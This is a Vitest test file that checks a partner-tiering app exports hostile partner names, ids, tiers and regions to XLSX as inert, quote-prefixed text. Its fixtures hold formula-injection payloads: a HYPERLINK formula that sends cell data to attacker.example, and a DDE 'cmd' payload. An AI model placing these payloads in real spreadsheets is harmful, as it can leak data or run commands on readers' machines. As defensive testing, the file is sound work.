/**
 * Formula injection (DESIGN D10.2, OWASP "CSV injection"): partner data that a spreadsheet
 * could read as a formula or a command is exported as inert text, exactly as imported.
 *
 * A dataset whose partner names, ids, current tiers, managers and regions are hostile is
 * exported with every sheet (assignments and report cards included); the file is read
 * back with SheetJS and also as raw XML, because SheetJS neither shows the quote prefix
 * nor keeps a CR before an LF.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import * as XLSX from 'xlsx';
import { beforeAll, describe, expect, it } from 'vitest';
import { writeWorkbook } from '../../../electron/services/export/xlsx';
import { exampleScenarios } from '../../../scenarios/examples';
import { generatePartners } from '../../../scenarios/generator';
import { evaluate } from '../../../shared/engine';
import type { ColumnarDataset } from '../../../shared/model/dataset';
import type { Scenario } from '../../../shared/model/scenario';
import { buildWorkbook } from '../../../shared/report/workbook';
import { OPTIONAL_SHEETS } from '../../../shared/report/options';
import { type ReportScenario } from '../../../shared/report/common';
import type { WorkbookSpec } from '../../../shared/report/sheet';
import { useTempDir } from '../../helpers/tmp';
import { attrs, unzip } from '../../helpers/xlsx-parts';

/** Partner names, each given to one partner (index = partner). */
const NAMES = [
  '=HYPERLINK("http://x","y")',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\tleading tab',
  '"a";=1',
  '\r\nCR LF',
  'a\u0000b',
  'escaped _x0041_ stays',
  // longer than the shared-string limit: written in place (an inline string)
  '=HYPERLINK("http://attacker.example/steal?d="&A1,"Click here for your report")',
  "=cmd|' /C calc'!A0",
  '<b>bold & "quoted"</b>',
  '\nleading line feed',
  'trailing space ',
  'emoji 😀 kept',
  '=',
];
/** Other identity fields, on partners 20.. (ids stay unique). */
const IDS = ['=1+2', '-007', '@P1', '+P2'];
const OWNERS = ['=owner()', '-Owner', '@owner', '\towner'];
const CURRENT_TIERS = ['=Gold', '-Silver', '@Bronze', '+Platinum'];
const REGIONS = ['=EMEA', '@APAC', '-LATAM', '+NA'];

/** The same test as the product's, written out: a spreadsheet reads these first characters as a formula or command. */
const FORMULA_START = /^[=+\-@\t\r\n\0]/;
/** What XML cannot carry becomes U+FFFD. */
// eslint-disable-next-line no-control-regex
const xmlSafe = (s: string) => s.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g, '\uFFFD');
/** SheetJS turns CR LF into LF when it reads (XML itself keeps the CR, written as &#13;). */
const asSheetJsReads = (s: string) => xmlSafe(s).replace(/\r\n/g, '\n');

// ---------------------------------------------------------------------------------------
// Raw package helpers


/** Element text as an XML parser and then Excel read it: line ends normalised, entities, then _xHHHH_ escapes. */
function decodeText(raw: string): string {
  return raw
    .replace(/\r\n?/g, '\n')
    .replace(/&(#x[0-9a-fA-F]+|#[0-9]+|amp|lt|gt|quot|apos);/g, (_, e: string) => {
      if (e.startsWith('#x')) return String.fromCodePoint(parseInt(e.slice(2), 16));
      if (e.startsWith('#')) return String.fromCodePoint(parseInt(e.slice(1), 10));
      return { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" }[e]!;
    })
    .replace(/_x([0-9A-Fa-f]{4})_/g, (_, h: string) => String.fromCharCode(parseInt(h, 16)));
}

interface TextRun {
  text: string;
  /** the <t> element's attributes */
  preserve: boolean;
}

function textOf(inner: string): TextRun {
  const runs = [...inner.matchAll(/<t\b([^>]*)>([\s\S]*?)<\/t>/g)];
  expect(runs.length).toBeGreaterThan(0);
  return { text: runs.map((r) => decodeText(r[2]!)).join(''), preserve: runs.every((r) => /xml:space="preserve"/.test(r[1]!)) };
}

interface RawCell {
  ref: string;
  s: number;
  /** the cell's text for string cells (shared or inline), else null */
  text: TextRun | null;
  t: string | null;
}

function rawCells(xml: string, shared: TextRun[]): Map<string, RawCell> {
  const cells = new Map<string, RawCell>();
  for (const row of xml.matchAll(/<row\b([^>]*?)(?:\/>|>([\s\S]*?)<\/row>)/g)) {
    const r = Number(attrs(row[1]!).r);
    let col = -1;
    for (const c of (row[2] ?? '').matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const a = attrs(c[1]!);
      col = a.r ? XLSX.utils.decode_cell(a.r).c : col + 1;
      const ref = XLSX.utils.encode_cell({ r: r - 1, c: col });
      const inner = c[2] ?? '';
      let text: TextRun | null = null;
      if (a.t === 's') text = shared[Number(/<v>(\d+)<\/v>/.exec(inner)![1])]!;
      else if (a.t === 'inlineStr') text = textOf(inner);
      cells.set(ref, { ref, s: Number(a.s ?? 0), text, t: a.t ?? null });
    }
  }
  return cells;
}

// ---------------------------------------------------------------------------------------

describe('formula injection: hostile partner data stays inert text', () => {
  const tempDir = useTempDir('tierscape-inject-');
  let data: ColumnarDataset;
  let spec: WorkbookSpec;
  let wb: XLSX.WorkBook;
  let parts: Map<string, string>;
  let xfs: { attrs: Record<string, string>; body: string }[];
  let sheets: Map<string, Map<string, RawCell>>;
  let sheetXml: Map<string, string>;

  beforeAll(async () => {
    const base = generatePartners({ seed: 31337, count: 120 });
    data = { metrics: base.metrics, values: base.values, partners: base.partners.map((p) => ({ ...p })) };
    NAMES.forEach((name, p) => (data.partners[p]!.name = name));
    IDS.forEach((id, k) => (data.partners[20 + k]!.id = id));
    OWNERS.forEach((owner, k) => (data.partners[20 + k]!.owner = owner));
    CURRENT_TIERS.forEach((tier, k) => (data.partners[30 + k]!.currentTier = tier));
    REGIONS.forEach((region, k) => (data.partners[40 + k]!.region = region));
    expect(new Set(data.partners.map((p) => p.id)).size).toBe(data.partners.length);

    const all = exampleScenarios();
    const find = (name: string): Scenario => structuredClone(all.find((s) => s.name === name)!);
    // a scenario whose ladder and tier names look like formulas too: they land in wrapped and plain columns
    const hostile = find('Two-tier starter');
    hostile.name = 'Hostile names';
    hostile.ladders[0]!.name = '=SUM(1,2)';
    hostile.ladders[0]!.tiers[0]!.name = '+Entry';
    hostile.ladders[0]!.tiers[1]!.name = '-Preferred';
    const scenarios: ReportScenario[] = [find('As is: metals on lifetime revenue'), find('Motion-fit ladders'), hostile].map((scenario) => ({
      scenario,
      outcome: evaluate(scenario, data),
    }));
    spec = buildWorkbook({
      dataset: { label: '=FY2026', asOf: '2026-06-30', partners: data.partners.length },
      data,
      scenarios,
      sheets: OPTIONAL_SHEETS,
      reportCards: 1,
      exportedAt: '2026-07-01T00:00:00.000Z',
    });
    const file = path.join(tempDir(), 'hostile.xlsx');
    await writeWorkbook(spec, file);
    const buffer = readFileSync(file);
    wb = XLSX.read(buffer, { type: 'buffer', cellStyles: true, cellNF: true, cellFormula: true });
    parts = unzip(buffer);

    const stylesXml = parts.get('xl/styles.xml')!;
    const cellXfs = /<cellXfs\b[^>]*>([\s\S]*?)<\/cellXfs>/.exec(stylesXml)![1]!;
    xfs = [...cellXfs.matchAll(/<xf\b([^>]*?)(?:\/>|>([\s\S]*?)<\/xf>)/g)].map((m) => ({ attrs: attrs(m[1]!), body: m[2] ?? '' }));

    const sst = parts.get('xl/sharedStrings.xml')!;
    const shared = [...sst.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => textOf(m[1]!));
    // sheet name → part, through workbook.xml and its relationships
    const rels = new Map<string, string>();
    for (const m of parts.get('xl/_rels/workbook.xml.rels')!.matchAll(/<Relationship\b([^>]*)\/>/g)) {
      const a = attrs(m[1]!);
      rels.set(a.Id!, a.Target!.replace(/^\/?(xl\/)?/, 'xl/'));
    }
    sheets = new Map();
    sheetXml = new Map();
    for (const m of parts.get('xl/workbook.xml')!.matchAll(/<sheet\b([^>]*)\/>/g)) {
      const a = attrs(m[1]!);
      const xml = parts.get(rels.get(a['r:id']!)!)!;
      const name = decodeText(a.name!);
      sheetXml.set(name, xml);
      sheets.set(name, rawCells(xml, shared));
    }
    expect([...sheets.keys()]).toEqual(wb.SheetNames);
  });

  const quotePrefixed = (s: number) => xfs[s]?.attrs.quotePrefix === '1';
  const headerRow = (name: string) => {
    const sheet = spec.sheets.find((x) => x.name === name)!;
    return sheet.title.length + 2;
  };
  const partnerSheets = () => spec.sheets.filter((s) => s.name.startsWith('Assignments') || s.name.startsWith('Report cards'));

  /** The text at a partner's row and column, as SheetJS and as the raw XML have it. */
  function expectText(sheet: string, p: number, column: string, original: string): void {
    const ref = `${column}${headerRow(sheet) + 1 + p}`;
    const cell = wb.Sheets[sheet]![ref] as XLSX.CellObject | undefined;
    expect(cell, `${sheet}!${ref}`).toBeDefined();
    expect(cell!.t, `${sheet}!${ref}`).toBe('s');
    expect(cell!.f, `${sheet}!${ref}`).toBeUndefined();
    expect(cell!.v, `${sheet}!${ref}`).toBe(asSheetJsReads(original));
    const raw = sheets.get(sheet)!.get(ref)!;
    expect(raw.t === 's' || raw.t === 'inlineStr', `${sheet}!${ref} is ${raw.t}`).toBe(true);
    // exactly the original (CR LF included), except what XML cannot carry
    expect(raw.text!.text, `${sheet}!${ref}`).toBe(xmlSafe(original));
    if (/^\s|\s$/.test(original)) expect(raw.text!.preserve, `${sheet}!${ref} keeps its spaces`).toBe(true);
    expect(quotePrefixed(raw.s), `${sheet}!${ref} quote prefix`).toBe(FORMULA_START.test(original));
  }

  it('writes each hostile partner name as a text cell holding exactly the original text', () => {
    const assignments = spec.sheets.filter((s) => s.name.startsWith('Assignments'));
    expect(assignments).toHaveLength(3);
    const cards = spec.sheets.find((s) => s.name.startsWith('Report cards'))!;
    expect(cards).toBeDefined();
    NAMES.forEach((name, p) => {
      for (const s of assignments) expectText(s.name, p, 'B', name);
      expectText(cards.name, p, 'B', name);
    });
    // the NUL became U+FFFD, the escape-looking text stayed literal, the CR stayed
    expect(wb.Sheets[cards.name]![`B${headerRow(cards.name) + 1 + 7}`]!.v).toBe('a\uFFFDb');
    expect(wb.Sheets[cards.name]![`B${headerRow(cards.name) + 1 + 8}`]!.v).toBe('escaped _x0041_ stays');
    expect(sheets.get(cards.name)!.get(`B${headerRow(cards.name) + 1 + 6}`)!.text!.text).toBe('\r\nCR LF');
    // both ways of writing text are exercised: shared strings and inline strings
    const kinds = new Set(NAMES.map((_, p) => sheets.get(cards.name)!.get(`B${headerRow(cards.name) + 1 + p}`)!.t));
    expect(kinds).toEqual(new Set(['s', 'inlineStr']));
  });

  it('writes hostile ids, managers, regions and current tiers as inert text too', () => {
    const cards = spec.sheets.find((s) => s.name.startsWith('Report cards'))!.name;
    for (const s of partnerSheets()) {
      const report = s.name === cards;
      IDS.forEach((id, k) => expectText(s.name, 20 + k, 'A', id));
      CURRENT_TIERS.forEach((tier, k) => expectText(s.name, 30 + k, report ? 'F' : 'D', tier));
      if (report) {
        OWNERS.forEach((owner, k) => expectText(s.name, 20 + k, 'C', owner));
        REGIONS.forEach((region, k) => expectText(s.name, 40 + k, 'D', region));
      }
    }
  });

  it('holds no formula: SheetJS finds none and no sheet has an <f> element', () => {
    let cells = 0;
    const withFormula: string[] = [];
    for (const name of wb.SheetNames) {
      for (const [ref, cell] of Object.entries(wb.Sheets[name]!)) {
        if (ref.startsWith('!')) continue;
        cells += 1;
        const c = cell as XLSX.CellObject;
        if (c.f !== undefined || (c.t !== 's' && c.t !== 'n')) withFormula.push(`${name}!${ref}: ${JSON.stringify(c)}`);
      }
    }
    expect(cells).toBeGreaterThan(1000);
    expect(withFormula).toEqual([]);
    for (const [name, xml] of sheetXml) {
      expect(xml, name).not.toMatch(/<f[\s>/]/);
      expect(xml, name).not.toMatch(/<c\b[^>]*\bt="(str|e|b)"/);
    }
    for (const [name, xml] of parts) {
      // nothing XML 1.0 cannot carry reaches any part
      // eslint-disable-next-line no-control-regex
      expect(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/.test(xml), name).toBe(false);
    }
  });

  it('marks every formula-looking text cell quote-prefixed, and no other cell', () => {
    const inert = xfs.map((x, i) => (x.attrs.quotePrefix === '1' ? i : -1)).filter((i) => i >= 0);
    expect(inert.length).toBeGreaterThanOrEqual(1);
    const problems: string[] = [];
    let formulaLooking = 0;
    let wrappedInert = 0;
    for (const [name, cells] of sheets) {
      for (const cell of cells.values()) {
        if (cell.text === null) {
          if (quotePrefixed(cell.s)) problems.push(`${name}!${cell.ref}: a number is quote-prefixed`);
          continue;
        }
        const looks = FORMULA_START.test(cell.text.text);
        if (looks) formulaLooking += 1;
        if (looks && !quotePrefixed(cell.s)) problems.push(`${name}!${cell.ref} ${JSON.stringify(cell.text.text)} is not quote-prefixed (s=${cell.s})`);
        if (!looks && quotePrefixed(cell.s)) problems.push(`${name}!${cell.ref} ${JSON.stringify(cell.text.text)} is quote-prefixed`);
        if (looks && /wrapText="1"/.test(xfs[cell.s]!.body)) wrappedInert += 1;
      }
    }
    expect(problems.slice(0, 10)).toEqual([]);
    // every hostile value above, in every sheet it appears in, and the hostile ladder and tier names
    expect(formulaLooking).toBeGreaterThan(60);
    // long texts in wrapped columns (the Summary's ladder list) keep wrapping and get the prefix
    expect(wrappedInert).toBeGreaterThan(0);
    // the quote-prefixed styles are plain text styles: General format, no formula-like number format
    for (const i of inert) expect(xfs[i]!.attrs.numFmtId).toBe('0');
  });

  it('the hostile ladder and tier names reach the summary, distribution and ladders sheets as text', () => {
    const find = (sheet: string, text: string) =>
      [...sheets.get(sheet)!.values()].filter((c) => c.text?.text === text || c.text?.text.startsWith(`${text} (`)).map((c) => ({ ref: c.ref, inert: quotePrefixed(c.s) }));
    for (const [sheet, text] of [
      ['Summary', '=SUM(1,2)'],
      ['Distribution', '=SUM(1,2)'],
      ['Distribution', '+Entry'],
      ['Ladders', '-Preferred'],
      ['Movement', '-Preferred'],
    ] as const) {
      const hits = find(sheet, text);
      expect(hits.length, `${text} on ${sheet}`).toBeGreaterThan(0);
      expect(hits.every((h) => h.inert)).toBe(true);
    }
    expect(wb.Custprops).toMatchObject({ Dataset: '=FY2026' });
  });
});
